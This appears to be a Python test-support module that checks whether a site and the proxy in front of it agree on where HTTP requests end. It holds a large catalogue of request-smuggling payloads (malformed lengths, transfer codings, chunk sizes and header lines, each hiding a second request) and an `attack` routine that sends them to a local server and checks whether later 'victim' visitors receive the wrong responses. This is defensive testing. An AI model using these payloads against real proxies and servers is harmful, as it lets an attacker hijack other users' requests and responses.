"""Requests whose end can be misread, and how one visitor sends them before another comes.

A proxy and the server behind it that find different ends take the rest of a body for the next
request: its answer, or the request itself, then belongs to somebody else ("request smuggling").
Each body here holds such a second request.
"""

from __future__ import annotations

import json
import os
import re
import select
import socket
import ssl
from collections import Counter
from contextlib import closing, suppress
from itertools import count
from pathlib import Path
from typing import NamedTuple

from tests.patience import PATIENCE
from tests.tooling.web_server import connects

PATH = (
    "/handbook/{}"  # without its slash: the site answers with the full address, so one sees whose
)
ANSWER = re.compile(rb"\r\nlocation: /handbook/([\w-]+)/\r\n", re.IGNORECASE)
ASKED = re.compile(r"/handbook/([\w-]+)")
MOVED = 301
GLANCE = (
    0.2  # seconds in which a front may answer the first of two requests; no verdict hangs on it
)
NUMBERS = count(1)


class Form(NamedTuple):
    """A request's head, and what its body is made of.

    In `head`, {n} is the length of the body, {wrapped32} and {wrapped64} the same in a counter of
    so many bits that has overflowed, {path} the address. `body` holds {hidden}, the second request,
    and {size}, its length in hexadecimal digits. `is_next`: by the standard (RFC 9112) the second
    request is one of its own.
    """

    head: str
    body: str = "{hidden}"
    is_next: bool = False


def with_headers(*lines: str, body: str = "{hidden}", is_next: bool = False) -> Form:
    """Return a POST with these header lines."""
    head = ("POST {path} HTTP/1.1", "Host: localhost", *lines)
    return Form("\r\n".join(head) + "\r\n\r\n", body, is_next)


def of_length(value: str) -> Form:
    return with_headers(f"Content-Length:{value}")


def of_coding(value: str) -> Form:
    """Return a body that ends at once if the coding counts, and with the length if not."""
    return with_headers("Content-Length: {n}", f"Transfer-Encoding:{value}", body=ENDED)


def of_chunks(body: str, *, is_next: bool = False) -> Form:
    return with_headers("Transfer-Encoding: chunked", body=body, is_next=is_next)


ENDED = "0\r\n\r\n{hidden}"
CHUNKED = "{size}\r\n{hidden}\r\n0\r\n\r\n"
FORMS = {
    # --- lengths
    "length": of_length(" {n}"),
    "length with a zero in front": of_length(" 0{n}"),
    "length of 19 digits": of_length(" {n:019}"),
    "length of 20 digits": of_length(" {n:020}"),
    "length of 40 digits": of_length(" {n:040}"),
    "length of 5000 digits": of_length(" {n:05000}"),
    "length over 64 bits": of_length(" {wrapped64}"),
    "length over 32 bits": of_length(" {wrapped32}"),
    "length with a plus": of_length(" +{n}"),
    "length with a minus": of_length(" -{n}"),
    "length with a space inside": of_length(" 0 {n}"),
    "length with an underscore": of_length(" 0_{n}"),
    "length with a point": of_length(" {n}.0"),
    "length with an exponent": of_length(" {n}e0"),
    "length in hexadecimal digits": of_length(" {n:#x}"),
    "length in octal digits": of_length(" {n:#o}"),
    "length in quotes": of_length(' "{n}"'),
    "length with letters after": of_length(" {n}abc"),
    "length with a superscript": of_length(" {n}\xb9"),
    "length and a semicolon": of_length(" {n};"),
    "two equal lengths in a list": of_length(" {n}, {n}"),
    "two lengths in a list": of_length(" 0, {n}"),
    "two lengths in a list, the other first": of_length(" {n}, 0"),
    "list with an empty member": of_length(" ,{n}"),
    "two equal lengths": with_headers("Content-Length: {n}", "Content-Length: {n}"),
    "two lengths": with_headers("Content-Length: 0", "Content-Length: {n}"),
    "two lengths, the other first": with_headers("Content-Length: {n}", "Content-Length: 0"),
    "two lengths in different cases": with_headers("content-length: 0", "CONTENT-LENGTH: {n}"),
    "no length": of_length(""),
    "length after a tab": of_length("\t{n}\t"),
    "length after a vertical tab": of_length(" \x0b{n}"),
    "length after a no-break space": of_length(" \xa0{n}"),
    "length before a NUL": of_length(" {n}\0"),
    "length before a bare CR": of_length(" {n}\rX: y"),
    "length on a folded line": of_length("\r\n {n}"),
    "length with more on a folded line": of_length(" 0\r\n {n}"),
    "space before the colon": with_headers("Content-Length : {n}"),
    "tab before the colon": with_headers("Content-Length\t: {n}"),
    "space before the name": Form(
        "POST {path} HTTP/1.1\r\n Content-Length: {n}\r\nHost: localhost\r\n\r\n"
    ),
    "underscore in the name": with_headers("Content_Length: {n}", is_next=True),
    "NUL in the name": with_headers("Content-\0Length: {n}"),
    "length after a bare LF": with_headers("X: y\nContent-Length: {n}"),
    "length after a bare CR": with_headers("X: y\rContent-Length: {n}"),
    "length after a NUL": with_headers("X: y\0\r\nContent-Length: {n}"),
    "length that is hop-by-hop": with_headers("Connection: Content-Length", "Content-Length: {n}"),
    # --- transfer codings
    "chunks": of_chunks(CHUNKED),
    "chunks, then a request": of_chunks(ENDED, is_next=True),
    "chunks and a length": of_coding(" chunked"),
    "a length and chunks": with_headers(
        "Transfer-Encoding: chunked", "Content-Length: 4", body=CHUNKED
    ),
    "chunks in upper case": of_coding(" CHUNKED"),
    "chunks without a space": of_coding("chunked"),
    "chunks after a tab": of_coding("\tchunked"),
    "chunks after a vertical tab": of_coding(" \x0bchunked"),
    "chunks before a NUL": of_coding(" chunked\0"),
    "chunks on a folded line": of_coding("\r\n chunked"),
    "chunks in quotes": of_coding(' "chunked"'),
    "chunks with a parameter": of_coding(" chunked;q=1"),
    "a coding that looks like chunks": of_coding(" xchunked"),
    "identity": of_coding(" identity"),
    "chunks after identity": of_coding(" identity, chunked"),
    "identity after chunks": of_coding(" chunked, identity"),
    "chunks after gzip": of_coding(" gzip, chunked"),
    "chunks twice": of_coding(" chunked, chunked"),
    "chunks in a list with an empty member": of_coding(" , chunked"),
    "two codings": with_headers(
        "Content-Length: {n}", "Transfer-Encoding: chunked", "Transfer-Encoding: x", body=ENDED
    ),
    "two codings, the other first": with_headers(
        "Content-Length: {n}", "Transfer-Encoding: x", "Transfer-Encoding: chunked", body=ENDED
    ),
    "no coding": of_coding(""),
    "coding with a space before the colon": with_headers(
        "Content-Length: {n}", "Transfer-Encoding : chunked", body=ENDED
    ),
    "coding with an underscore": with_headers(
        "Content-Length: {n}", "Transfer_Encoding: chunked", body=ENDED
    ),
    "coding after a bare LF": with_headers(
        "Content-Length: {n}", "X: y\nTransfer-Encoding: chunked", body=ENDED
    ),
    "coding after a bare CR": with_headers(
        "Content-Length: {n}", "X: y\rTransfer-Encoding: chunked", body=ENDED
    ),
    "coding in HTTP/1.0": Form(
        "POST {path} HTTP/1.0\r\nHost: localhost\r\nConnection: keep-alive\r\n"
        "Content-Length: {n}\r\nTransfer-Encoding: chunked\r\n\r\n",
        ENDED,
    ),
    # --- chunks
    "chunk size with a prefix": of_chunks("0x{size}\r\n{hidden}\r\n0\r\n\r\n"),
    "chunk size with a plus": of_chunks("+{size}\r\n{hidden}\r\n0\r\n\r\n"),
    "chunk size with a minus": of_chunks("-{size}\r\n{hidden}\r\n0\r\n\r\n"),
    "chunk size with a space before": of_chunks(" {size}\r\n{hidden}\r\n0\r\n\r\n"),
    "chunk size with a space after": of_chunks("{size} \r\n{hidden}\r\n0\r\n\r\n"),
    "chunk size with an underscore": of_chunks("0_{size}\r\n{hidden}\r\n0\r\n\r\n"),
    "chunk size of 40 digits": of_chunks("{size:0>40}\r\n{hidden}\r\n0\r\n\r\n"),
    "chunk size over 64 bits": of_chunks("1{size:0>16}\r\n{hidden}\r\n0\r\n\r\n"),
    "no chunk size": of_chunks("\r\n{hidden}\r\n0\r\n\r\n"),
    "chunk size that is no number": of_chunks("many\r\n{hidden}\r\n0\r\n\r\n"),
    "chunk extension": of_chunks("{size};a=b\r\n{hidden}\r\n0\r\n\r\n"),
    "chunk extension with a bare LF": of_chunks("0;a\n{hidden}\r\n0\r\n\r\n"),
    "chunk extension with a bare CR": of_chunks("{size};a\rb\r\n{hidden}\r\n0\r\n\r\n"),
    "chunk extension with a NUL": of_chunks("{size};\0\r\n{hidden}\r\n0\r\n\r\n"),
    "chunk lines with bare LF": of_chunks("{size}\n{hidden}\n0\n\n"),
    "chunk longer than its size": of_chunks("1\r\n{hidden}\r\n0\r\n\r\n"),
    "chunk without its line end": of_chunks("{size}\r\n{hidden}0\r\n\r\n"),
    "last chunk of many zeros": of_chunks("000\r\n\r\n{hidden}", is_next=True),
    "trailer with a length": of_chunks("0\r\nContent-Length: {hidden}\r\n\r\n"),
    "trailer of a whole request": of_chunks("0\r\n{hidden}\r\n\r\n"),
    # --- the rest of the head
    "head that ends with bare LF": with_headers("Content-Length: {n}\n\nX: y"),
    "head that ends with bare CR": with_headers("Content-Length: {n}\r\rX: y"),
    "lines that all end with bare LF": Form(
        "POST {path} HTTP/1.1\nHost: localhost\nContent-Length: {n}\n\n"
    ),
    "line without a colon": with_headers("Content-Length {n}", "Content-Length: {n}"),
    "empty name": with_headers(": y", "Content-Length: {n}"),
    "empty line before the request": Form(
        "\r\nPOST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Length: {n}\r\n\r\n"
    ),
    "two hosts": with_headers("Host: localhost", "Content-Length: {n}"),
    "GET with a body": Form(
        "GET {path} HTTP/1.1\r\nHost: localhost\r\nContent-Length: {n}\r\n\r\n"
    ),
    "HEAD with a body": Form(
        "HEAD {path} HTTP/1.1\r\nHost: localhost\r\nContent-Length: {n}\r\n\r\n"
    ),
    "version of one digit": Form(
        "POST {path} HTTP/1\r\nHost: localhost\r\nContent-Length: {n}\r\n\r\n"
    ),
    "version of three numbers": Form(
        "POST {path} HTTP/1.1.1\r\nHost: localhost\r\nContent-Length: {n}\r\n\r\n"
    ),
    "no version": Form("GET {path}\r\n{hidden}\r\n\r\n", ""),
    "body that waits to be asked for": with_headers("Expect: 100-continue", "Content-Length: {n}"),
    "upgrade to HTTP/2": with_headers(
        "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABk",
        "Content-Length: {n}",
    ),
    "upgrade to a web socket": with_headers(
        "Connection: Upgrade", "Upgrade: websocket", "Content-Length: {n}"
    ),
}  # fmt: skip
# The second request, whole, or begun so that the next bytes on the connection belong to it.
ENDINGS = {"whole": "\r\n\r\n", "begun": "\r\nX-Rest: "}


class Front(NamedTuple):
    """What visitors connect to: the site itself, or a proxy that logs each request it passes on."""

    port: int
    log: Path | None = None
    trusted: ssl.SSLContext | None = None
    shares_connections: bool = False  # to the site, among its visitors

    def connect(self) -> socket.socket:
        return connects(self.port, self.trusted)


class Attack(NamedTuple):
    """Addresses of the two requests and of the visitors who came meanwhile, and who got which."""

    open: str
    hidden: str
    victims: list[str]
    answers: list[list[str]]


def attack(front: Front, form: Form, ending: str) -> Attack:
    """Send the form, and a visitor's request after its connection has ended.

    Where a proxy shares connections among visitors, one comes before it ends as well.
    """
    number = next(NUMBERS)
    sent = Attack(f"open-{number}", f"hidden-{number}", [], [])
    with closing(front.connect()) as client:
        client.sendall(build(form, sent, ending))
        if front.shares_connections:
            select.select([client], [], [], GLANCE)
            visit(front, sent)
        end_sending(client)
        read(client)
    visit(front, sent)
    return sent


def build(form: Form, sent: Attack, ending: str) -> bytes:
    hidden = f"GET {PATH.format(sent.hidden)} HTTP/1.1\r\nHost: localhost{ENDINGS[ending]}"
    body = form.body.format(hidden=hidden, size=f"{len(hidden):x}")
    counters = {f"wrapped{bits}": 2**bits + len(body) for bits in (32, 64)}
    path = PATH.format(sent.open)
    head = form.head.format(path=path, n=len(body), hidden=hidden, **counters)
    return (head + body).encode("latin-1")


def visit(front: Front, sent: Attack) -> None:
    """Ask for an address of one's own; note which were answered."""
    victim = f"victim-{next(NUMBERS)}"
    with closing(front.connect()) as client:
        line = f"GET {PATH.format(victim)} HTTP/1.1"
        client.sendall(f"{line}\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode())
        sent.victims.append(victim)
        sent.answers.append([name.decode() for name in ANSWER.findall(read(client))])


def end_sending(client: socket.socket) -> None:
    """Close our side of the connection; an encrypted one can still be read."""
    with suppress(OSError), socket.socket(fileno=os.dup(client.fileno())) as raw:
        raw.shutdown(socket.SHUT_WR)


def read(client: socket.socket) -> bytes:
    """Return all that comes until the connection ends."""
    client.settimeout(PATIENCE)
    data = bytearray()
    with suppress(ConnectionError, ssl.SSLError):
        while part := client.recv(65536):
            data += part
    return bytes(data)


class SiteLog:
    """What the site answered since the last look."""

    def __init__(self, path: Path) -> None:
        self._path = path
        self._position = 0
        self._served: Counter[str] = Counter()

    def served(self) -> Counter[str]:
        """Count the requests that were answered, by their names; refused ones are none."""
        with self._path.open() as file:
            file.seek(self._position)
            whole, end, _ = file.read().rpartition("\n")
        self._position += len(whole + end)
        lines = [json.loads(line) for line in whole.splitlines()]
        paths = [line["path"] for line in lines if line.get("status") == MOVED]
        self._served.update(name for path in paths for name in ASKED.findall(path))
        return self._served


def passed_on(front: Front) -> Counter[str]:
    """Count the requests that a proxy knows of."""
    assert front.log
    return Counter(ASKED.findall(front.log.read_text()))
